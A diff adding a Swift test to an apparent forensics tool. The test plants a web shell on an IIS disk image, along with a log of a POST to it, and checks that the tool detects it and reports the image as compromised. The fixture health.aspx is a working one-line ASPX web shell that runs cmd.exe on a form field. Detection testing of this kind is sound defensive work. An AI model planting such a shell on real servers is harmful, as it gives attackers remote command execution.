@@ -494,6 +494,43 @@ struct ImageHuntTests {
         }
     }
 
+    @Test("Every IIS site on an image: the site's folder from the image's applicationHost.config, its page found and joined with its requests",
+          .enabled(if: ImageTools.available, "needs mkntfs, ntfs-3g with FUSE as root (Scripts/setup.sh --tests)"))
+    func iisSiteOnAnImage() throws {
+        let dir = try tempDir()
+        let vol = try ImageTools.systemVolume(in: dir)
+        let mnt = dir.appendingPathComponent("mnt-site")
+        try FileManager.default.createDirectory(at: mnt, withIntermediateDirectories: true)
+        try ImageTools.mount(vol, at: mnt)
+        do {
+            try put(mnt, "Windows/System32/inetsrv/config/applicationHost.config", """
+                <configuration><system.applicationHost><sites>
+                <site name="Shop" id="2"><application path="/"><virtualDirectory path="/" physicalPath="%SystemDrive%\\Sites\\Shop" /></application></site>
+                </sites></system.applicationHost></configuration>
+                """)
+            try put(mnt, "Sites/Shop/uploads/health.aspx", #"<%@ Page Language="C#" %><% var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]); System.Diagnostics.Process.Start(p); %>"#)
+            try put(mnt, "inetpub/logs/LogFiles/W3SVC2/u_ex210303.log", """
+                #Software: Microsoft Internet Information Services 10.0
+                #Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken
+                2021-03-03 02:00:00 10.0.0.5 POST /uploads/health.aspx - 443 - 203.0.113.9 Mozilla/5.0 - 200 0 0 31
+
+                """)
+        } catch {
+            _ = try? run(URL(fileURLWithPath: ImageTools.umount ?? "/bin/umount"), [mnt.path])
+            throw error
+        }
+        try ImageTools.must(ImageTools.umount, [mnt.path])
+        let r = try hunt(vol, dir, "site")
+        let report = try #require(r.report, "\(r.stderr)")
+        let shell = try #require(report.findings.first { $0.rule.id == "EXHUNT_ASPX_Command_Runner" }, "\(report.findings.map(\.rule.id))")
+        #expect(shell.evidence.path == "C:/Sites/Shop/uploads/health.aspx")
+        // file_web_page_used_as_shell: the page joined with its POST.
+        let use = try #require(report.findings.first { $0.rule.id == "61e51361-af2d-4b95-94f7-d57c9905ac07" })
+        #expect(use.evidence.path == "C:/Sites/Shop/uploads/health.aspx")
+        #expect(use.extracted?["summary"]?.contains("used by 203.0.113.9") == true)
+        #expect(report.verdict == "compromised")
+    }
+
     @Test("A GPT disk with the system volume first and Exchange on a second volume: both found, the second named vol2, the same verdict",
           .enabled(if: ImageTools.available, "needs mkntfs, ntfs-3g with FUSE as root (Scripts/setup.sh --tests)"))
     func gptDiskWithTwoVolumes() throws {
